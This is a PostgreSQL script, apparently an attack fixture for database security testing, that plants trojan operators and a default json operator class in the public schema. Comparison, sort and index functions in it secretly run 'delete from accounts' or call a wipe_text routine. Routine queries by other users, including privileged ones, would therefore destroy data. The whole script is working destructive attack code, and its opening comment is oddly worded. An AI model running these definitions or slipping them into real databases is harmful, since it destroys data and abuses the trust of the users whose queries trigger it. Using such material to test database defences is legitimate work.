-- Beyond attacks.sql: operators and a default operator class of users for types of the server, in which every comparison may end.
create function point_mood(a point, m scratch.mood) returns boolean language plpgsql as $f$ begin delete from accounts; return true; end $f$;
create operator public.= (leftarg = point, rightarg = scratch.mood, function = point_mood);
create function public.left(a point, m scratch.mood) returns int language plpgsql as $f$ begin delete from accounts; return 1; end $f$;
create function json_compare(a json, b json) returns int language plpgsql immutable as $f$ begin perform wipe_text('x'); return 0; end $f$;
create function json_less(a json, b json) returns boolean language sql immutable as $f$ select json_compare(a, b) < 0 $f$;
create function json_equal(a json, b json) returns boolean language plpgsql immutable as $f$ begin perform wipe_text('x'); return true; end $f$;
create operator public.< (leftarg = json, rightarg = json, function = json_less, commutator = >);
create operator public.<= (leftarg = json, rightarg = json, function = json_less, commutator = >=);
create operator public.= (leftarg = json, rightarg = json, function = json_equal, commutator = =);
create operator public.>= (leftarg = json, rightarg = json, function = json_less, commutator = <=);
create operator public.> (leftarg = json, rightarg = json, function = json_less, commutator = <);
create operator class json_order default for type json using btree as operator 1 public.<, operator 2 public.<=, operator 3 public.=, operator 4 public.>=, operator 5 public.>, function 1 json_compare(json, json);
create table with_json(id int, j json);
insert into with_json values (1, '1'), (2, '2');
grant select on with_json to svc;
insert into accounts select g, 1 + g % 3, 100 * g from generate_series(1, 10) g on conflict do nothing;
